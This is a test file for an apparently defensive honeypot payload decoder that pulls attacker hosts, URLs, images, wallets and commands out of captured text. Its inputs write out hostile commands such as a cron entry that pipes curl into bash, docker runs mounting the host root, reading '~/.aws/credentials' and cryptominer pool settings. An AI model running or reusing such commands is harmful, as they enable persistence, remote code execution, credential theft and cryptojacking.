import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { processorTime } from '../../../test/fixtures/processor-time.ts';
import { refang } from '../../indicator/refang.ts';
import { decodePayload } from './decode.ts';
import { quiet, samples } from './fixtures/samples.ts';

const data =
  process.env.WATERGUARD_TEST_DATA ?? fileURLToPath(new URL('../../../../shared/data', import.meta.url));
const recorded = (file: string) => `${data}/honeypots/${file}`;
const without = (file: string) => ({ skip: existsSync(recorded(file)) ? false : `${file} is absent` });
const read = (file: string): string => readFileSync(recorded(file), 'utf8');
const lines = (file: string): Record<string, unknown>[] =>
  read(file)
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));

const monero =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const nothing = { urls: [], hosts: [], images: [], wallets: [], commands: [] };

test('every way to hide a command leads to its hosts, in order and without others', () => {
  for (const { text, hosts } of samples) assert.deepEqual(decodePayload(text).hosts, hosts, text);
});

test('what is hidden is told as commands', () => {
  for (const { text, says = [] } of samples) {
    const { commands } = decodePayload(text);
    for (const line of says) assert.ok(commands.includes(line), `${text}\n${commands.join('\n')}`);
  }
});

test('hosts in patterns, rules, file names and versions are not contacted', () => {
  for (const text of quiet) {
    const { hosts, urls } = decodePayload(text);
    assert.deepEqual([hosts, urls], [[], []], text);
  }
});

test('stages are told in the order in which they would run', () => {
  const text = `chroot /mnt sh -c 'echo "* * * * * root curl -fsSL http://192.0.2.1/y|bash" > /etc/crontab; history -c'`;
  assert.deepEqual(decodePayload(text).commands, [
    text,
    `echo '* * * * * root curl -fsSL http://192.0.2.1/y|bash' > /etc/crontab`,
    'curl -fsSL http://192.0.2.1/y',
    'bash',
    'history -c',
  ]);
});

test('URLs are in normal form, up to what nobody knows', () => {
  const urls = (text: string) => decodePayload(text).urls;
  assert.deepEqual(
    urls('curl HTTP://USER:PW@Example.INVALID:80/A?b; wget 192.0.2.1:8080/x; curl -s 192.0.2.2'),
    ['http://example.invalid/A?b', 'http://192.0.2.1:8080/x', 'http://192.0.2.2'],
  );
  assert.deepEqual(urls('curl "http://192.0.2.1/?u=$(whoami)&h=x"; wget http://192.0.2.2/x.$arch'), [
    'http://192.0.2.1/?u=',
    'http://192.0.2.2/x',
  ]);
  assert.deepEqual(
    urls('tftp -g -r x.sh 192.0.2.1; ftpget 192.0.2.2 y y.sh; docker -H tcp://192.0.2.3:2375 ps'),
    ['tftp://192.0.2.1/x.sh', 'ftp://192.0.2.2/y.sh', 'tcp://192.0.2.3:2375'],
  );
});

test('images are those that a command or document brings', () => {
  const images = (text: string) => decodePayload(text).images;
  assert.deepEqual(
    images(
      'docker run -itd --name x -v /:/mnt --net host evil/a:1 sh; podman pull quay.io/evil/b; docker -H tcp://192.0.2.1:2375 create --rm c@sha256:' +
        'a'.repeat(64) +
        '; kubectl create deployment d --image=evil/e; docker run $IMG; docker ps; docker exec -it f sh; docker build -t g .',
    ),
    ['evil/a:1', 'quay.io/evil/b', `c@sha256:${'a'.repeat(64)}`, 'evil/e'],
  );
  assert.deepEqual(images('{"Image":"evil/f","Cmd":["id"]}'), ['evil/f']);
  assert.deepEqual(images('kind: Pod\nspec:\n  containers:\n  - image: "evil/g:2"\n'), ['evil/g:2']);
  assert.deepEqual(images('FROM evil/h AS x\nRUN id'), ['evil/h']);
  assert.deepEqual(decodePayload('docker pull 192.0.2.1:5000/evil/i').hosts, ['192.0.2.1']);
});

test('wallets have a right checksum and are not those of rivals', () => {
  const wallets = (text: string) => decodePayload(text).wallets;
  assert.deepEqual(wallets(`./x -o pool.example.invalid:3333 -u ${monero}.rig -p x`), [monero]);
  const config = `{"pools":[{"url":"pool.example.invalid:3333","user":"${monero}"}]}`;
  assert.deepEqual(decodePayload(config), { ...nothing, hosts: ['pool.example.invalid'], wallets: [monero] });
  const loose = `cat > c.json <<E\n{ // x\n"pools":[{"url":"gulf.moneroocean.stream:10128","user":"${monero}",},]}\nE`;
  assert.deepEqual(decodePayload(loose).hosts, ['gulf.moneroocean.stream']);
  assert.deepEqual(wallets(loose), [monero]);
  assert.deepEqual(wallets(`./x -u ${monero.replace('4AF', '4AE')}`), []);
  assert.deepEqual(wallets(`pkill -f ${monero}`), []);
});

test('text that says nothing gives nothing', () => {
  for (const text of [
    '',
    '\0\x01\x02',
    '   \n\t',
    '{"a":1}',
    '\x16\x03\x01\x02\0',
    'ssh-rsa AAAAB3NzaC1yc2E= x',
  ])
    assert.deepEqual(decodePayload(text), nothing, JSON.stringify(text));
});

test('the same text is decoded once', () => {
  const text = 'curl 192.0.2.1/once';
  assert.equal(decodePayload(text), decodePayload(text));
});

test('what is told is bounded', () => {
  const many = Array.from(
    { length: 3000 },
    (_, at) => `curl http://h${at}.example.org/${'x'.repeat(100)}`,
  ).join('\n');
  const { urls, hosts, commands } = decodePayload(many);
  assert.deepEqual([urls.length, hosts.length], [200, 200]);
  assert.equal(commands.length, 500);
  const long = decodePayload(`curl http://192.0.2.1/x ${'y'.repeat(100_000)}`).commands;
  assert.equal(long[0]?.length, 2048);
  assert.ok(JSON.stringify(decodePayload(`echo ${'z'.repeat(3000)}\n`.repeat(300))).length < 200_000);
});

test('a host behind a megabyte of anything is found, and none is cut in half', () => {
  assert.deepEqual(decodePayload(`${'# x\n'.repeat(200_000)}curl http://192.0.2.1/x`).hosts, ['192.0.2.1']);
  for (let length = 131_040; length < 131_100; length++)
    assert.deepEqual(decodePayload(`#${'x'.repeat(length)}\ncurl http://192.0.2.10/x`).hosts, ['192.0.2.10']);
});

/** Texts that would take long if anything were done twice for each of their parts. */
const hostile: readonly string[] = [
  'sh -c "$(',
  '(',
  '$(',
  '${a:-',
  `'"`,
  'curl http://192.0.2.1/x|sh;',
  'for a in 1 2 3 4 5; do curl $a$b/x; ',
  '* * * * * root curl 192.0.2.1/x|sh\n',
  'cat <<E > /tmp/x.sh\nid\nE\n',
  'docker run --a b ',
  '%63%75%72',
  'a=%20&',
  '[',
  '{"Cmd":["id"],"a":',
  'a.b(',
  'http://a.b/ ',
];

test('hostile text costs linear time', () => {
  const used = processorTime();
  for (const part of hostile) decodePayload(part.repeat(200_000 / part.length));
  for (const part of [
    '(',
    'f(',
    'a=',
    'chr(65)+',
    '[::-1]',
    'lambda:',
    'map {',
    'x.x',
    "'a'*9999+",
    'f=lambda x:f(f(x));f(1);',
  ])
    decodePayload(`python -c "${part.repeat(100_000 / part.length)}"`);
  assert.ok(used() < 5000, `${used()}`);
});

test('no change of a payload ends in an error, and what is told stays in form', () => {
  const used = processorTime();
  let state = 2026;
  const chance = (below: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state % below;
  };
  const texts = [...samples.map(({ text }) => text), ...quiet];
  const signs = [
    ...`'"\`$(){}[]|;&<>\\\n\0#=%*:/.,-+ `,
    '$(',
    '${',
    '||',
    '<<E',
    '\\x',
    "b'",
    '//',
    '\u00e9',
    '\ud800',
  ];
  for (let round = 0; round < 3000 && used() < 1500; round++) {
    let text = texts[chance(texts.length)]!;
    for (let change = 1 + chance(4); change > 0; change--) {
      const at = chance(text.length + 1);
      const end = at + chance(12);
      const put =
        chance(3) === 0 ? texts[chance(texts.length)]!.slice(0, chance(60)) : signs[chance(signs.length)]!;
      text = text.slice(0, at) + (chance(4) === 0 ? '' : put) + text.slice(chance(2) === 0 ? at : end);
    }
    const { hosts, urls, commands } = decodePayload(text);
    for (const host of hosts)
      assert.match(host, /^(?:[a-z0-9_-]+(?:\.[a-z0-9_-]+)+|[0-9a-f:]+(?:\.\d+){0,3})$/, text);
    for (const url of urls) assert.match(url, /^[a-z][a-z0-9+]*:\/\/[^\s'"<>]+$/, text);
    for (const line of commands) assert.match(line, /^[^\x00-\x1f]{1,2048}$/, text);
  }
});

test(
  'bodies that created containers: every host of a download, and no other',
  without('docker-create-sanitized-sample.json'),
  () => {
    const bodies: readonly { readonly body: unknown }[] = JSON.parse(
      read('docker-create-sanitized-sample.json'),
    );
    for (const { body } of bodies) {
      const text = JSON.stringify(body);
      const downloads = [...text.matchAll(/hxxps?:\/\/([^/\s:"'|]+)/g)].map((match) => refang(match[1]!));
      const pools = [...text.matchAll(/ -o ([\w.-]+):\d+ /g)].map((match) => match[1]!);
      const { hosts, images } = decodePayload(text);
      assert.deepEqual([...hosts].sort(), [...new Set([...downloads, ...pools])].sort(), text);
      assert.deepEqual(images, [(body as { readonly Image: string }).Image]);
    }
  },
);

test('a recorded call that created a container', without('teamtnt-dockgeddon-create.json'), () => {
  const { data: body } = JSON.parse(read('teamtnt-dockgeddon-create.json'));
  const text = Buffer.from(body, 'base64').toString();
  const { Image: image } = JSON.parse(text);
  assert.deepEqual(decodePayload(text), { ...nothing, images: [image] });
});

test('commands that bots type first contact nobody', without('ssh-top-commands-2025.txt'), () => {
  for (const line of read('ssh-top-commands-2025.txt').split('\n').filter(Boolean)) {
    const { hosts, commands } = decodePayload(line);
    assert.deepEqual(hosts, [], line);
    assert.ok(commands.length > 0, line);
  }
});

test('sessions of real clients', without('openssh-9.2-transcript.jsonl'), () => {
  const typed = lines('openssh-9.2-transcript.jsonl').flatMap(({ cmd }) =>
    typeof cmd === 'string' ? [cmd] : [],
  );
  const { hosts, urls, commands } = decodePayload(typed[0]!);
  assert.deepEqual(hosts, ['example.invalid']);
  assert.deepEqual(urls, ['http://example.invalid/x.sh', 'http://example.invalid/x']);
  assert.ok(commands.includes('wget -q http://example.invalid/x.sh -O /tmp/x.sh'));
  assert.ok(commands.includes('cat ~/.aws/credentials'));

  const queries = lines('psql-15-transcript.jsonl').flatMap(({ q }) => (typeof q === 'string' ? [q] : []));
  assert.ok(queries.some((query) => decodePayload(query).commands.includes('id')));
  for (const query of queries) assert.deepEqual(decodePayload(query).hosts, [], query);

  const redis = lines('redis-cli-7.0-transcript.jsonl').flatMap(({ cmd }) =>
    Array.isArray(cmd) ? [cmd as string[]] : [],
  );
  const resp = (words: readonly string[]) =>
    `*${words.length}\r\n${words.map((word) => `$${word.length}\r\n${word}\r\n`).join('')}`;
  const all = redis.map((words) => decodePayload(resp(words)));
  assert.deepEqual(
    all.flatMap(({ hosts: named }) => named),
    [],
  );
  assert.ok(all.some(({ commands: told }) => told.includes('echo benign-test')));

  const calls = lines('docker-cli-28.2.2-calls.jsonl').flatMap(({ body }) =>
    typeof body === 'string' ? [body] : [],
  );
  assert.deepEqual(
    calls.flatMap((body) => decodePayload(body).hosts),
    [],
  );
  assert.ok(calls.some((body) => decodePayload(body).images.includes('alpine')));
});

test('what sed writes is evidence, what it looks for is not', () => {
  const edited = `sed -i 's/"url": *"[^"]*",/"url": "pool.example:'$PORT'",/; s#"user": .*#"user": "${monero}"#' c.json`;
  const { hosts, wallets } = decodePayload(edited);
  assert.deepEqual([hosts, wallets], [['pool.example'], [monero]]);
  for (const text of [
    `sed -i '/pool.example:3333/d; /${monero}/d' /etc/crontab`,
    `sed -e 's|http://old.example/a||' -e 's/${monero}/x/' f`,
    `sed 's/<[^>]*>//g' page`,
  ])
    assert.deepEqual([decodePayload(text).hosts, decodePayload(text).wallets], [[], []], text);
});

test('the port of an endpoint may be a variable', () => {
  assert.deepEqual(decodePayload('./x -o pool.example:$PORT -u w').hosts, ['pool.example']);
  assert.deepEqual(decodePayload('POOL=pool.example:${PORT}; ./x -o $POOL').hosts, ['pool.example']);
});
